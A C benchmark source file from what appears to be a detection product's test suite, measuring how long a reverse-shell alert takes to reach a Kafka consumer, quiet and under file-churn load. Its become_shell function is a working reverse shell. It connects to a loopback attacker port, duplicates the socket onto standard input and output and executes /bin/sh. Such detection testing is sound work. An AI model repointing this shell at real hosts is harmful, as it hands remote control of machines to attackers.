/* Latency: from the decisive call of a reverse shell to the record that a Kafka consumer sees.
 *
 * The clock is read outside the product on both sides: by the attacking process right before its
 * execve with the connection on descriptors 0 to 2, and by a librdkafka consumer when the record of
 * that process has come. Quiet first, then with two processes that open new files without an end.
 *
 * usage: latency BROKERS [ATTACKS]      (200 when not said; the same under load) */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <librdkafka/rdkafka.h>

#include "common/clock.h"
#include "tests/bench/bench.h"
#include "tests/e2e/harness.h"

#define ATTACKS_DEFAULT 200
#define DEADLINE_MS	3000
#define REST_MS		50 /* between attacks: each meets an agent that has gone back to sleep */
#define TOPIC		"nightjar.alerts"
#define PARTITIONS_MAX	64

/* ---- consumer ---- */

/* All partitions of the topic from their ends on, without a group: a group takes seconds to form.
 */
static rd_kafka_topic_partition_list_t *find_partitions(rd_kafka_t *rk)
{
	uint64_t deadline = clock_monotonic_ns() + 15000 * NS_PER_MS;
	rd_kafka_topic_t *topic = rd_kafka_topic_new(rk, TOPIC, NULL);
	rd_kafka_topic_partition_list_t *list = rd_kafka_topic_partition_list_new(PARTITIONS_MAX);

	while (list->cnt == 0 && clock_monotonic_ns() < deadline) {
		const struct rd_kafka_metadata *md;

		if (rd_kafka_metadata(rk, 0, topic, &md, 5000) != RD_KAFKA_RESP_ERR_NO_ERROR)
			continue;
		for (int i = 0; i < md->topic_cnt; i++)
			for (int p = 0; p < md->topics[i].partition_cnt; p++)
				rd_kafka_topic_partition_list_add(list, TOPIC, p)->offset =
					RD_KAFKA_OFFSET_END;
		rd_kafka_metadata_destroy(md);
	}
	rd_kafka_topic_destroy(topic);
	if (list->cnt == 0)
		bench_die("the broker has no topic %s", TOPIC);
	return list;
}

static rd_kafka_t *consumer_new(const char *brokers)
{
	static const char *const settings[][2] = {
		{"group.id", "nightjar-bench"},
		{"enable.auto.commit", "false"},
		{"fetch.wait.max.ms", "100"},
		{"fetch.error.backoff.ms", "10"},
		{"topic.metadata.refresh.interval.ms", "500"},
	};
	char text[256];
	rd_kafka_conf_t *conf = rd_kafka_conf_new();
	rd_kafka_topic_partition_list_t *partitions;
	rd_kafka_t *rk;

	if (rd_kafka_conf_set(conf, "bootstrap.servers", brokers, text, sizeof(text)) !=
	    RD_KAFKA_CONF_OK)
		bench_die("%s", text);
	for (size_t i = 0; i < sizeof(settings) / sizeof(*settings); i++)
		if (rd_kafka_conf_set(conf, settings[i][0], settings[i][1], text, sizeof(text)) !=
		    RD_KAFKA_CONF_OK)
			bench_die("%s", text);
	rk = rd_kafka_new(RD_KAFKA_CONSUMER, conf, text, sizeof(text));
	if (!rk)
		bench_die("%s", text);
	(void)rd_kafka_poll_set_consumer(rk);
	partitions = find_partitions(rk);
	if (rd_kafka_assign(rk, partitions) != RD_KAFKA_RESP_ERR_NO_ERROR)
		bench_die("cannot read %s", TOPIC);
	rd_kafka_topic_partition_list_destroy(partitions);
	return rk;
}

/* *ret_detected_ns: when the product, by its own clock, had the verdict. */
static bool is_shell_of(const rd_kafka_message_t *message, pid_t pid, uint64_t *ret_detected_ns)
{
	json_t *alert = json_loadb(message->payload, message->len, 0, NULL);
	const char *rule = json_string_value(json_object_get(alert, "rule"));
	json_int_t found =
		json_integer_value(json_object_get(json_object_get(alert, "process"), "pid"));
	const char *detected =
		json_string_value(json_object_get(json_object_get(alert, "timing"), "detected_ns"));
	bool is = rule && strcmp(rule, "reverse_shell") == 0 && found == pid;

	if (is)
		*ret_detected_ns = detected ? strtoull(detected, NULL, 10) : 0;
	json_decref(alert);
	return is;
}

/* Wall clock when the record of pid's alert was there; 0 when none came in time. */
static uint64_t await_record(rd_kafka_t *rk, pid_t pid, uint64_t *ret_detected_ns)
{
	uint64_t deadline = clock_monotonic_ns() + DEADLINE_MS * NS_PER_MS;

	while (clock_monotonic_ns() < deadline) {
		rd_kafka_message_t *message = rd_kafka_consumer_poll(rk, 50);
		uint64_t now = clock_wall_ns();
		bool is;

		if (!message)
			continue;
		is = !message->err && is_shell_of(message, pid, ret_detected_ns);
		rd_kafka_message_destroy(message);
		if (is)
			return now;
	}
	return 0;
}

/* ---- attack ---- */

/* Never returns. *ret_at is shared with the driver. */
static void become_shell(uint16_t port, volatile uint64_t *ret_at)
{
	struct sockaddr_in to = {.sin_family = AF_INET,
				 .sin_port = htons(port),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	(void)setsid();
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 || dup2(fd, 0) < 0 ||
	    dup2(fd, 1) < 0 || dup2(fd, 2) < 0)
		_exit(1);
	*ret_at = clock_wall_ns();
	(void)execl("/bin/sh", "sh", (char *)NULL);
	_exit(1);
}

/* Milliseconds from execve to the record and to the verdict; negative when none came. */
static double attack(rd_kafka_t *rk, volatile uint64_t *at, double *ret_verdict_ms)
{
	struct attacker attacker;
	uint64_t seen, detected = 0;
	pid_t pid;

	if (attacker_start(ATTACKER_SHELL, &attacker) < 0)
		bench_die("no attacker: %s", strerror(errno));
	*at = 0;
	pid = fork();
	if (pid == 0)
		become_shell(attacker.port, at);
	/* The attacker talks to the shell meanwhile: waiting for it first would be in the figure.
	 */
	seen = pid < 0 ? 0 : await_record(rk, pid, &detected);
	if (pid < 0 || !attacker_got_shell(&attacker, DEADLINE_MS))
		bench_die("the attack itself failed");
	attacker_stop(&attacker);
	(void)kill(pid, SIGKILL);
	(void)waitpid(pid, NULL, 0);
	*ret_verdict_ms = (double)(detected - *at) / 1e6;
	return seen ? (double)(seen - *at) / 1e6 : -1;
}

struct outcome {
	double *ms;
	double *verdict_ms;
	size_t detected;
	size_t attacks;
};

static void measure(rd_kafka_t *rk, volatile uint64_t *at, size_t attacks, struct outcome *ret_o)
{
	struct outcome o = {.ms = calloc(attacks, sizeof(double)),
			    .verdict_ms = calloc(attacks, sizeof(double)),
			    .attacks = attacks};

	if (!o.ms || !o.verdict_ms)
		bench_die("no memory");
	for (size_t i = 0; i < attacks; i++) {
		double ms;

		(void)poll(NULL, 0, REST_MS); /* attacks come at a pace: nothing to wait for */
		ms = attack(rk, at, &o.verdict_ms[o.detected]);
		if (ms >= 0)
			o.ms[o.detected++] = ms;
	}
	*ret_o = o;
}

static void print_quiet(struct outcome *o)
{
	bench_print("latency", "kafka_p50_ms", bench_quantile(o->ms, o->detected, 0.5), "ms",
		    o->detected, "execve to record at a consumer, quiet, an attack every 50 ms");
	bench_print("latency", "verdict_p50_ms", bench_quantile(o->verdict_ms, o->detected, 0.5),
		    "ms", o->detected,
		    "execve to the verdict, by the product's own clock; the rest is Kafka's way");
	bench_print("latency", "kafka_p99_ms", bench_quantile(o->ms, o->detected, 0.99), "ms",
		    o->detected, "");
	bench_print("latency", "kafka_max_ms", bench_quantile(o->ms, o->detected, 1), "ms",
		    o->detected, "");
	bench_print("latency", "detected_share", (double)o->detected / (double)o->attacks, "share",
		    o->attacks, "");
}

static void print_load(struct outcome *o)
{
	bench_print("latency", "load_p50_ms", bench_quantile(o->ms, o->detected, 0.5), "ms",
		    o->detected, "two processes open new files without an end");
	bench_print("latency", "load_p99_ms", bench_quantile(o->ms, o->detected, 0.99), "ms",
		    o->detected, "");
	bench_print("latency", "load_detected_share", (double)o->detected / (double)o->attacks,
		    "share", o->attacks, "");
}

int main(int argc, char **argv)
{
	static const char *const churn[] = {"load", "churn", NULL};
	const char *brokers = argc > 1 ? argv[1] : NULL;
	size_t attacks = argc > 2 ? strtoul(argv[2], NULL, 10) : ATTACKS_DEFAULT;
	const struct dev_options options = {.kafka = brokers, .duration_s = 600};
	volatile uint64_t *at =
		mmap(NULL, sizeof(*at), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	_cleanup_(dev_freep) struct dev *dev = NULL;
	struct outcome quiet, loaded;
	double first;
	struct err e = {0};
	rd_kafka_t *rk;
	int out[2];
	pid_t busy[2];

	if (!brokers || at == MAP_FAILED)
		bench_die("usage: latency BROKERS [ATTACKS]");
	if (dev_start(&options, &dev, &e) < 0)
		bench_die("%s", e.text);
	rk = consumer_new(brokers);
	(void)attack(rk, at, &first); /* the first record also pays for connections and metadata */
	measure(rk, at, attacks, &quiet);
	print_quiet(&quiet);
	for (int i = 0; i < 2; i++)
		busy[i] = bench_spawn(churn, &out[i]);
	measure(rk, at, attacks, &loaded);
	print_load(&loaded);
	for (int i = 0; i < 2; i++) {
		bench_stop(busy[i]);
		(void)close(out[i]);
	}
	free(quiet.ms);
	free(quiet.verdict_ms);
	free(loaded.ms);
	free(loaded.verdict_ms);
	rd_kafka_consumer_close(rk);
	rd_kafka_destroy(rk);
	return 0;
}
